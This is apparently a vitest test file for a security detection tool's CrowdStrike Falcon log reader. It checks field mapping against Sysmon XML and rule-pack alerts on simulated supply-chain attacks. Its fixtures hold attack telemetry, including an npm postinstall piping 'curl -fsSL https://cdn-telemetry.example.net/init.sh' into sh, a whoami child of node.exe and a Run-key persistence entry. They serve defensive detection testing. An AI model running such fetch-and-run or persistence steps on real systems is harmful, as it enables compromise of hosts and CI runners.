/**
 * CrowdStrike Falcon telemetry (falcon.ts). Two fixtures, written after the field sets of real
 * Falcon Data Replicator lines (every value a string, Falcon process ids, NT device paths):
 * - test/fixtures/windows/atomic-1-3-4.falcon-fdr.ndjson: the seed's atomic tests 1, 3 and 4 (the
 *   seven events of test/fixtures/windows/*.sysmon.xml) as a Windows sensor records them:
 *   ProcessRollup2 for each start, preceded by the start of npm.cmd's cmd.exe (the parent the
 *   Sysmon events only name), GenericFileWritten for the two writes, NetworkConnectIP4 for the
 *   connection to 127.0.0.1:4873;
 * - test/fixtures/sources/falcon-logscale.ndjson: an npm install on a Linux CI runner whose
 *   postinstall pipes a download into sh, as Falcon event search (LogScale) exports it
 *   (`#event_simpleName`, `@timestamp`, the FDR line in `@rawstring`; one row with nothing else parsed).
 */
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../src/events/event.js';
import { csvEventsReader } from '../../src/sources/csv-events.js';
import { falconReader } from '../../src/sources/falcon.js';
import { sniffFormat } from '../../src/sources/open.js';
import { windowsXmlReader } from '../../src/sources/windows-xml.js';
import { runCli } from '../helpers/cli.js';
import { readWith } from './helpers.js';

const WIN = fileURLToPath(new URL('../fixtures/windows/', import.meta.url));
const FDR_FILE = `${WIN}atomic-1-3-4.falcon-fdr.ndjson`;
const LOGSCALE_FILE = fileURLToPath(new URL('../fixtures/sources/falcon-logscale.ndjson', import.meta.url));
const FDR = readFileSync(FDR_FILE, 'utf8');
const LINES = FDR.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, string>);
const AID = LINES[0]!.aid!;
const read = (text: string) => readWith(falconReader, Readable.from([text]), 'fdr.ndjson');
const ndjson = (records: object[]) => records.map((r) => JSON.stringify(r)).join('\n') + '\n';

const SIGMA = ['Image', 'CommandLine', 'ParentImage', 'ParentCommandLine', 'ParentProcessId', 'ProcessId', 'TargetFilename', 'SourceIp', 'SourcePort', 'DestinationIp', 'DestinationPort', 'Protocol', 'Initiated', 'IntegrityLevel'];
const sigma = (e: NormalizedEvent) => ({
  category: e.category,
  product: e.product,
  time: e.time,
  ...Object.fromEntries(SIGMA.filter((k) => e.fields[k] !== undefined).map((k) => [k, String(e.fields[k])])),
});

describe('falcon reader', () => {
  it('is chosen for FDR lines and Falcon event search exports, not for other JSON', () => {
    expect(sniffFormat(FDR)?.format).toBe('falcon');
    expect(sniffFormat(readFileSync(LOGSCALE_FILE, 'utf8'))?.format).toBe('falcon');
    expect(sniffFormat(JSON.stringify(LINES, null, 2))?.format).toBe('falcon');
    expect(sniffFormat(JSON.stringify({ '@timestamp': '2026-11-27T09:14:01Z', event: { category: ['process'], type: ['start'] } }))?.format).toBe('ecs');
    expect(sniffFormat(JSON.stringify({ aid: AID, ComputerName: 'DEV-WS-042' }))?.format).not.toBe('falcon');
  });

  it('gives the Sigma fields, category and time the Sysmon XML of the same events gives', async () => {
    const { events, bad } = await read(FDR);
    expect(bad).toEqual([]);
    expect(events).toHaveLength(8);
    const xml = ['atomic1-npm-postinstall', 'atomic3-workflow-file', 'atomic4-registry-4873'].map((n) => readFileSync(`${WIN}${n}.sysmon.xml`, 'utf8')).join('\n');
    const fromXml = (await readWith(windowsXmlReader, Readable.from([xml]))).events.map(sigma);
    const fromFalcon = events.slice(1).map(sigma);
    // What Falcon cannot give: the connection's process started before the input (Image is its file
    // name alone), the parent of atomic 3's cmd.exe likewise (ParentImage and nothing else of it).
    expect(fromFalcon[6]!.Image).toBe('node.exe');
    expect(fromFalcon[4]).toMatchObject({ ParentImage: 'powershell.exe' });
    const known = (e: Record<string, unknown>, i: number) => {
      const x = { ...e };
      if (i === 6) delete x.Image;
      if (i === 4) for (const k of ['ParentImage', 'ParentCommandLine', 'ParentProcessId']) delete x[k];
      if (i === 6 || i === 3 || i === 5) delete x.ProcessId; // Sysmon names the acting process's pid; Falcon only its id
      return x;
    };
    expect(fromFalcon.map(known)).toEqual(fromXml.map(known));
  });

  it("links processes by Falcon's ids: parent fields from the parent's start, ProcessGuid, the host as the sensor", async () => {
    const { events } = await read(FDR);
    const [npmCmd, node, cmd, , fileWrite] = events;
    expect(node!.fields).toMatchObject({
      ProcessGuid: LINES[1]!.TargetProcessId,
      ParentProcessGuid: LINES[1]!.ParentProcessId,
      ParentProcessId: '5904',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      Hashes: 'MD5=2F5C232E32F702A608716A5D5C927E8F,SHA256=63743E1CD518CB72B6B40DF2C7B8504AC4F116058D68098911EC3D5F50F1F385',
      ImageFileName: '\\Device\\HarddiskVolume3\\Program Files\\nodejs\\node.exe',
    });
    expect(npmCmd!.fields.ParentImage).toBe('powershell.exe'); // its parent started before the input: the file name Falcon gives
    expect(fileWrite!.fields).toMatchObject({ Image: 'C:\\Windows\\System32\\cmd.exe', ProcessId: '7312', ProcessGuid: cmd!.fields.ProcessGuid });
    for (const e of events) expect(e.host).toBe(AID);
    // ComputerName is on some lines only: later events of the sensor carry the name learnt.
    expect(events.map((e) => e.fields.Computer)).toEqual([undefined, undefined, ...Array(6).fill('DEV-WS-042')]);
  });

  it('writes device paths with the drive a start shows, UNC paths for \\Device\\Mup, registry keys as Sysmon does', async () => {
    const line = (o: Record<string, string>) => ({ aid: AID, event_platform: 'Win', ...o });
    const written = (path: string) => line({ event_simpleName: 'NewScriptWritten', ContextProcessId: '9', TargetFileName: path });
    const { events } = await read(ndjson([
      written('\\Device\\HarddiskVolume2\\Users\\bob\\a.ps1'), // before any start of that volume: as given
      line({ event_simpleName: 'ProcessRollup2', TargetProcessId: '9', ImageFileName: '\\Device\\HarddiskVolume2\\Tools\\x.exe', CommandLine: 'd:\\TOOLS\\X.EXE -q' }),
      written('\\Device\\HarddiskVolume2\\Users\\bob\\b.ps1'),
      written('\\Device\\HarddiskVolume4\\c.ps1'),
      written('\\Device\\Mup\\fileserver\\share\\d.ps1'),
      line({ event_simpleName: 'AsepValueUpdate', ContextProcessId: '9', RegObjectName: '\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', RegValueName: 'updater', RegStringValue: 'C:\\ProgramData\\u.exe' }),
      line({ event_simpleName: 'ProcessRollup2', TargetProcessId: '10', ParentProcessId: '9', ImageFileName: '\\Device\\HarddiskVolume2\\Windows\\System32\\svchost.exe', CommandLine: 'svchost.exe -k netsvcs', UserSid: 'S-1-5-18', IntegrityLevel: '16384' }),
    ]));
    expect(events.map((e) => e.fields.TargetFilename ?? e.fields.Image)).toEqual([
      '\\Device\\HarddiskVolume2\\Users\\bob\\a.ps1',
      'D:\\Tools\\x.exe',
      'D:\\Users\\bob\\b.ps1',
      '\\Device\\HarddiskVolume4\\c.ps1',
      '\\\\fileserver\\share\\d.ps1',
      'D:\\Tools\\x.exe',
      'D:\\Windows\\System32\\svchost.exe',
    ]);
    expect(events[5]!).toMatchObject({ category: 'registry_set', fields: { TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'C:\\ProgramData\\u.exe' } });
    expect(events[6]!).toMatchObject({ user: 'NT AUTHORITY\\SYSTEM', fields: { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System', ParentImage: 'D:\\Tools\\x.exe', ParentCommandLine: 'd:\\TOOLS\\X.EXE -q' } });
  });

  it('reads a Falcon event search export: tags, @rawstring filling in what was not parsed, Linux paths, DNS', async () => {
    const { events, bad } = await readWith(falconReader, Readable.from([readFileSync(LOGSCALE_FILE)]), 'logscale.ndjson');
    expect(bad).toEqual([]);
    expect(events.map((e) => [e.category, e.product, e.fields.Image])).toEqual([
      ['process_creation', 'linux', '/usr/bin/node'],
      ['process_creation', 'linux', '/usr/bin/dash'],
      ['process_creation', 'linux', '/usr/bin/curl'],
      ['dns_query', 'linux', '/usr/bin/curl'],
      ['network_connection', 'linux', '/usr/bin/curl'],
    ]);
    expect(events[2]!.fields).toMatchObject({ CommandLine: 'curl -fsSL https://cdn-telemetry.example.net/init.sh', ParentImage: '/usr/bin/dash', User: 'runner' });
    expect(events[2]!.fields['@rawstring']).toBeUndefined();
    expect(events[3]!.fields).toMatchObject({ QueryName: 'cdn-telemetry.example.net', QueryResults: '198.51.100.7;' });
    expect(new Date(events[0]!.time!).toISOString()).toBe('2026-12-07T10:20:00.000Z'); // ProcessStartTime, not the cloud's timestamp
  });

  it('reports a line that is not JSON with its line number and reads on; keeps a member named __proto__', async () => {
    const protoLine = `${JSON.stringify(LINES[2]).slice(0, -1)},"__proto__":"kept"}`;
    const withProto = [...FDR.split('\n').slice(0, 2), '{"event_simpleName": "ProcessRollup2", oops', protoLine].join('\n') + '\n';
    const { events, bad } = await read(withProto);
    expect(bad).toEqual([expect.objectContaining({ line: 3 })]);
    expect(events).toHaveLength(3);
    expect(Object.getOwnPropertyDescriptor(events[2]!.fields, '__proto__')?.value).toBe('kept');
  });

  it('reads a CSV export of the same events as csv-events, through the same mapping', async () => {
    const columns = [...new Set(LINES.flatMap((l) => Object.keys(l)))];
    const cell = (v: string | undefined) => (v === undefined ? '' : /[",\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
    const csv = [columns.join(','), ...LINES.map((l) => columns.map((c) => cell(l[c])).join(','))].join('\r\n') + '\r\n';
    expect(sniffFormat(csv)?.format).toBe('csv-events');
    const fromCsv = await readWith(csvEventsReader, Readable.from([csv]), 'falcon.csv');
    expect(fromCsv.bad).toEqual([]);
    const fromJson = await read(FDR);
    // (An empty cell is an absent field: the JSON lines' empty ProcessEndTime is not in the CSV's events.)
    const shape = (e: NormalizedEvent) => ({ category: e.category, product: e.product, time: e.time, host: e.host, fields: Object.fromEntries(Object.entries(e.fields).filter(([, v]) => v !== '')) });
    expect(fromCsv.events.map(shape)).toEqual(fromJson.events.map(shape));
  });

  it('the seed and hardened packs: arm 1 on node.exe → cmd.exe, and the alerts the Sysmon XML gives', async () => {
    const xml = ['atomic1-npm-postinstall', 'atomic3-workflow-file', 'atomic4-registry-4873'].map((n) => `${WIN}${n}.sysmon.xml`);
    const titles = async (paths: string[], pack: string) => {
      const r = await runCli(['scan', ...paths, '--rules', pack, '--format', 'jsonl']);
      return r.stdout.trim().split('\n').filter(Boolean).map((l) => (JSON.parse(l) as { rule: { title: string } }).rule.title).sort();
    };
    for (const pack of ['seed', 'hardened']) expect(await titles([FDR_FILE], pack), pack).toEqual(await titles(xml, pack));
    const seed = await runCli(['scan', FDR_FILE, '--rules', 'seed', '--format', 'csv']);
    expect(seed.status).toBe(1);
    expect(seed.stderr).toMatch(/8 events \(falcon\)/);
    expect(seed.stdout).toContain(`2026-11-27 09:14:02,${AID},,,C:\\Windows\\System32\\cmd.exe,"C:\\WINDOWS\\system32\\cmd.exe /d /s /c ""whoami > %TEMP%\\argus-npm-test.txt""",C:\\Program Files\\nodejs\\node.exe,`);
    expect(seed.stdout.trimEnd().endsWith('PackageManagerSpawnedSuspiciousChild')).toBe(true);
  });

  it('the hardened pack on the Linux install: the piped download, its DNS query and its connection', async () => {
    const r = await runCli(['scan', LOGSCALE_FILE, '--rules', 'hardened', '--format', 'jsonl']);
    const alerts = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { rule: { title: string }; fields: Record<string, unknown> });
    expect(alerts.map((a) => a.rule.title).sort()).toEqual([
      'DNS Query From a Package Install Subtree for a Non-Registry Name',
      'Network Connection From a Package Install Subtree to a Non-Registry Host',
      'Suspicious Execution Inside a Package Install Subtree',
      'Suspicious Execution Inside a Package Install Subtree',
    ]);
    const connection = alerts.find((a) => a.rule.title.startsWith('Network'))!;
    expect(connection.fields).toMatchObject({ DestinationHostname: 'cdn-telemetry.example.net', DestinationHostnameSource: 'dns', InstallPackageManager: 'npm' });
  });
});
